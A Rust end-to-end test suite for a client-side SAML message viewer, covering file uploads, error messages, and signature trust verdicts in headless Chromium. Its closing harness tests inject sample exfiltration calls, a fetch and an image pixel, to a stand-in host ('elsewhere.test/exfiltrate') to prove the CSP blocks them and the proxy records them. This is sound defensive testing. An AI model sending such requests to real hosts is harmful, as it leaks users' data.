//! End-to-end tests: the built page (`dist/`) in headless Chromium.
//!
//! Run by a plain native `cargo test` after `trunk build --release --public-url ./`;
//! `scripts/test` does both and installs Chromium and chromedriver. Every test runs in a
//! fresh browser whose only network is a recording proxy ([`server`]), and afterwards
//! the harness ([`harness::run`]) fails it if the page requested anything but its own
//! files, or the browser logged a CSP violation or an error. So each flow below is also
//! a proof that, for that flow, nothing the user dropped left the tab.
//!
//! The flows are written against the app's DOM contract:
//!
//! | element | meaning |
//! |---|---|
//! | `main#app-root` | the app has mounted |
//! | `input#file-input[type=file]` (multiple) | choose files |
//! | `textarea#paste-input`, `button#paste-analyze` | paste and analyze |
//! | `[data-testid=message-item][data-kind=…]` | one found message, in flow order; `data-kind` is `Response`, `AuthnRequest`, `LogoutRequest`, `LogoutResponse`, `EntityDescriptor` or `EntitiesDescriptor` |
//! | `[data-testid=message-detail]` | the selected message |
//! | `[data-testid=field-name-id]` | its full NameID text |
//! | `table[data-testid=attribute-table] tr[data-testid=attribute-row]` | one attribute: Name, then value(s) |
//! | `[data-testid=input-error]` | a sentence saying why an input could not be read |
//! | `[data-testid=example-button]` | a built-in example |

#![cfg(not(target_arch = "wasm32"))]

mod accessibility;
mod big_har;
mod exports;
mod fixtures;
mod harness;
mod hostile;
mod page;
mod screenshots;
mod server;
mod session;
mod single_file;

use fantoccini::Locator;

use harness::{Page, TestResult, run, run_then_check};

#[tokio::test]
async fn page_loads_without_foreign_requests() {
    run("page_loads_without_foreign_requests", |page| async move {
        page.open().await?;
        page.screenshot("page-loaded").await?;
        // The page really came through the proxy (else "no foreign request" would prove
        // nothing): the document, its glue and its WebAssembly were all served by it.
        let paths: Vec<String> = page.requests().into_iter().map(|r| r.path).collect();
        for wanted in ["/", ".js", ".wasm", ".css"] {
            assert!(
                paths.iter().any(|path| path.ends_with(wanted)),
                "the proxy served no `{wanted}`: {paths:?}"
            );
        }
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn har_upload_shows_response_with_name_id_and_attributes() {
    run("har_upload", |page| async move {
        page.open().await?;
        let har = fixtures::write_temp_file("aws-sign-in.har", &fixtures::har())?;
        page.upload("input#file-input[type=file]", &har).await?;
        let items = page.wait_for_all("[data-testid=message-item]").await?;
        assert_eq!(items.len(), 1, "one SAML message in the HAR");
        assert_eq!(
            items[0].attr("data-kind").await?.as_deref(),
            Some("Response")
        );
        items[0].click().await?;
        expect_alice_response(&page).await?;
        page.screenshot("har-upload").await?;
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn base64_blob_upload_shows_response() {
    run("base64_upload", |page| async move {
        page.open().await?;
        let blob =
            fixtures::write_temp_file("saml-response.txt", &fixtures::saml_response_base64())?;
        page.upload("input#file-input[type=file]", &blob).await?;
        let items = page.wait_for_all("[data-testid=message-item]").await?;
        assert_eq!(items.len(), 1, "one SAML message in the blob");
        assert_eq!(
            items[0].attr("data-kind").await?.as_deref(),
            Some("Response")
        );
        items[0].click().await?;
        expect_alice_response(&page).await?;
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn pasted_garbage_shows_input_error() {
    run("pasted_garbage", |page| async move {
        page.open().await?;
        let paste = page.wait_for("textarea#paste-input").await?;
        paste
            .send_keys("this is not a SAML message %%% <<<")
            .await?;
        page.wait_for("#paste-analyze").await?.click().await?;
        let error = page.wait_for("[data-testid=input-error]").await?;
        let sentence = error.text().await?;
        assert!(
            sentence.split_whitespace().count() >= 3,
            "the input error should explain itself in a sentence, got {sentence:?}"
        );
        let items = page
            .client()
            .find_all(Locator::Css("[data-testid=message-item]"))
            .await?;
        assert!(items.is_empty(), "garbage must not produce messages");
        page.screenshot("pasted-garbage").await?;
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn example_button_shows_a_message() {
    run("example_button", |page| async move {
        page.open().await?;
        let examples = page.wait_for_all("[data-testid=example-button]").await?;
        examples[0].click().await?;
        let items = page.wait_for_all("[data-testid=message-item]").await?;
        let kind = items[0].attr("data-kind").await?.unwrap_or_default();
        assert!(
            [
                "Response",
                "AuthnRequest",
                "LogoutRequest",
                "LogoutResponse",
                "EntityDescriptor",
                "EntitiesDescriptor"
            ]
            .contains(&kind.as_str()),
            "unexpected data-kind {kind:?}"
        );
        page.screenshot("example").await?;
        Ok(())
    })
    .await;
}

/// A file from the repository's `examples/`.
fn example(name: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples")
        .join(name)
}

/// The signature verdict follows the trusted keys: unpinned without one, trusted with
/// the IdP's certificate, a side-by-side comparison with another certificate.
#[tokio::test]
async fn trusted_key_decides_the_signature_verdict() {
    run("trusted_key", |page| async move {
        page.open().await?;
        page.upload(
            "input#file-input[type=file]",
            &example("aws-response-session-name.txt"),
        )
        .await?;
        let banner = page.wait_for("[data-testid=signature-banner]").await?;
        assert_eq!(
            banner.attr("data-verdict").await?.as_deref(),
            Some("unpinned")
        );

        page.upload(
            "input#trust-input[type=file]",
            &example("example-idp-certificate.pem"),
        )
        .await?;
        page.wait_for("[data-testid=signature-banner][data-verdict=trusted]")
            .await?;
        page.wait_for(".xml-line.signed").await?;
        page.screenshot("trusted-signature").await?;

        // Trust another certificate instead: the message's key no longer matches.
        page.wait_for("[data-testid=trusted-input] button.link")
            .await?
            .click()
            .await?;
        let other = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/certs/idp-rsa2048.pem");
        page.upload("input#trust-input[type=file]", &other).await?;
        page.wait_for("[data-testid=signature-banner][data-verdict=bad]")
            .await?;
        let comparison = page
            .wait_for("[data-testid=certificate-comparison]")
            .await?
            .text()
            .await?;
        assert!(
            comparison.contains("example-idp.okta.test"),
            "the message's certificate is shown: {comparison}"
        );
        page.screenshot("key-mismatch").await?;
        Ok(())
    })
    .await;
}

/// An ECDSA-signed Response (xmlsec1, P-384, Assertion and Response signed): the panel
/// names the method and the curve, and the verdict turns trusted with the signer's
/// certificate.
#[tokio::test]
async fn an_ecdsa_signature_is_verified_in_the_page() {
    let signed = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/signed");
    run("ecdsa_signature", |page| async move {
        page.open().await?;
        page.upload(
            "input#file-input[type=file]",
            &signed.join("response-ecdsa-p384-both.xml"),
        )
        .await?;
        let banner = page.wait_for("[data-testid=signature-banner]").await?;
        assert_eq!(
            banner.attr("data-verdict").await?.as_deref(),
            Some("unpinned")
        );
        let algorithms = page.wait_for("dd.algorithms").await?.text().await?;
        assert!(algorithms.contains("ecdsa-sha384"), "{algorithms}");
        let key = page
            .wait_for("[data-testid=cert-key]")
            .await?
            .text()
            .await?;
        assert!(key.contains("P-384"), "{key}");

        page.upload(
            "input#trust-input[type=file]",
            &signed.join("idp-ec384.pem"),
        )
        .await?;
        page.wait_for("[data-testid=signature-banner][data-verdict=trusted]")
            .await?;
        page.wait_for(".xml-line.signed").await?;
        Ok(())
    })
    .await;
}

/// The detail of [`fixtures::saml_response`] is showing: its NameID and its attribute.
async fn expect_alice_response(page: &Page) -> TestResult {
    page.wait_for("[data-testid=message-detail]").await?;
    let name_id = page.wait_for("[data-testid=field-name-id]").await?;
    assert_eq!(name_id.text().await?.trim(), fixtures::NAME_ID);
    let rows = page
        .wait_for_all("table[data-testid=attribute-table] tr[data-testid=attribute-row]")
        .await?;
    let mut found = Vec::new();
    for row in rows {
        let cells = row.find_all(Locator::Css("td, th")).await?;
        let mut texts = Vec::new();
        for cell in cells {
            texts.push(cell.text().await?.trim().to_owned());
        }
        found.push(texts);
    }
    assert!(
        found.iter().any(|cells| cells.len() >= 2
            && cells[0] == fixtures::ROLE_SESSION_NAME
            && cells[1].contains(fixtures::ROLE_SESSION_NAME_VALUE)),
        "no attribute row {} = {}; rows: {found:?}",
        fixtures::ROLE_SESSION_NAME,
        fixtures::ROLE_SESSION_NAME_VALUE
    );
    Ok(())
}

// The harness's own proofs: the detectors the tests above rely on do see what they
// claim to see.

/// The proxy sees requests for other hosts, plain and `https:` (as `CONNECT`), and
/// counts them as foreign.
#[tokio::test]
async fn harness_records_requests_to_other_hosts() {
    run_then_check(
        "harness_records_requests_to_other_hosts",
        |page| async move {
            // Navigations are outside the page's CSP, so they reach the network (our proxy).
            // Both fail (403 / refused tunnel); only the attempt matters.
            let _ = page.client().goto("http://elsewhere.test/leak?q=1").await;
            let _ = page.client().goto("https://elsewhere.test/").await;
            Ok(())
        },
        |evidence| {
            let foreign: Vec<String> = evidence
                .foreign_requests()
                .iter()
                .map(|r| r.to_string())
                .collect();
            assert!(
                foreign
                    .iter()
                    .any(|r| r.starts_with("GET http://elsewhere.test/leak?q=1")),
                "the proxy missed a plain request: {foreign:?}"
            );
            assert!(
                foreign
                    .iter()
                    .any(|r| r.starts_with("CONNECT elsewhere.test:443")),
                "the proxy missed an https request: {foreign:?}"
            );
        },
    )
    .await;
}

/// The page's CSP stops a script from sending data elsewhere, and the harness sees
/// the violation in the browser log.
#[tokio::test]
async fn harness_detects_csp_violations() {
    run_then_check(
        "harness_detects_csp_violations",
        |page| async move {
            page.open().await?;
            page.client()
                .execute(
                    "window.__violations = 0; \
                     document.addEventListener('securitypolicyviolation', () => { window.__violations += 1; }); \
                     fetch('http://elsewhere.test/exfiltrate').catch(() => {}); \
                     new Image().src = 'http://elsewhere.test/pixel.png';",
                    vec![],
                )
                .await?;
            // The browser has reported both violations (and logged them with them).
            page.wait_until(
                "two CSP violations reported",
                "return window.__violations >= 2;",
                vec![],
            )
            .await?;
            Ok(())
        },
        |evidence| {
            assert!(
                evidence.foreign_requests().is_empty(),
                "the CSP should have stopped these requests before the network:\n{}",
                evidence.describe()
            );
            let violations = evidence
                .log_problems()
                .iter()
                .filter(|entry| entry.message.contains("Content Security Policy"))
                .count();
            assert!(
                violations >= 2,
                "expected the fetch and the image to be reported as CSP violations:\n{}",
                evidence.describe()
            );
        },
    )
    .await;
}
